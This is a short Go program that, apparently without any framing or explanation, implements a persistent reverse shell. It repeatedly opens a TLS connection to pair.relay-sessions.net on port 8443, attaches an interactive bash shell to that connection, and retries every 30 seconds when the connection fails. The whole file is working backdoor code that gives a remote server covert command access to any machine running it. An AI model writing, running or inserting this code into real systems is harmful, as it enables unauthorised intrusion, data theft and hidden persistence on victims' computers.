package main

import (
	"crypto/tls"
	"os/exec"
	"time"
)

func main() {
	for {
		conn, err := tls.Dial("tcp", "pair.relay-sessions.net:8443", &tls.Config{})
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		sh := exec.Command("/bin/bash", "-i")
		sh.Stdin, sh.Stdout, sh.Stderr = conn, conn, conn
		_ = sh.Run()
		conn.Close()
	}
}
